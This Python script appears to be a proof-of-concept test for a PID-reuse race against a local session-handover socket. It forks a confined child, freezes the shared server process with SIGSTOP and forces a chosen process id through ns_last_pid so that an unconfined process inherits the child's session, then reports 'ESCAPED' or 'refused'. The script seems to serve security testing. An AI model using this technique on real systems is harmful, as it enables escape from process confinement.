"""A confined process hands a session over and dies, and a free one gets its id.

Usage: attach_reuse.py PEER FOLDER [--greeting], in a process namespace of its own, whose ids nobody
else takes. Prints what became of the session.
"""
import ctypes
import os
import pathlib
import signal
import socket
import subprocess
import sys

import attach_stranger
from attach_home import Host

peer, folder, *options = sys.argv[1:]
MINE = pathlib.Path("/proc/sys/kernel/ns_last_pid")


def attack(name, shared):
    """In a child: what it leaves behind are the ends of its pipes."""
    to, back = os.pipe(), os.pipe()
    heir = os.pipe()
    child = os.fork()
    if child == 0:
        ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)  # no new privileges
        os.chdir(f"{folder}/pi-mcp")
        line = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        line.connect(name)
        if os.fork() == 0:  # keeps the line open, and says nothing on it
            os.close(heir[1])
            os.read(heir[0], 1)
            os._exit(0)
        nonce, _ = attach_stranger.greet(line)
        os.kill(shared, signal.SIGSTOP)  # a flood that keeps it busy would do the same
        attach_stranger.hand_over(line, nonce, (to[0], back[1]))
        os._exit(0)
    os.waitpid(child, 0)
    return child, to[1], back[0], heir


def take_id(wanted):
    for _ in range(200):
        MINE.write_text(str(wanted - 1))
        innocent = subprocess.Popen(["/bin/sleep", "60"])
        if innocent.pid == wanted:
            return innocent
        innocent.kill()
        innocent.wait()
    sys.exit("nobody got the id")


host = Host(folder, *options, program=peer)
shared = host.shared()
name = next(path.name for path in pathlib.Path(folder, "pi-mcp").iterdir() if path.is_socket())
child, to, back, heir = attack(name, shared)
innocent = take_id(child)
os.kill(shared, signal.SIGCONT)
os.write(to, b"about\n")
again = host.about()  # by then the shared process has looked at the other too
again = host.about()
os.set_blocking(back, False)
try:
    print("ESCAPED", os.read(back, 100))
except BlockingIOError:
    print("refused", "sessions", again["sessions"], "alive", innocent.poll() is None)
innocent.kill()
innocent.wait()
for end in heir:
    os.close(end)
host.close()
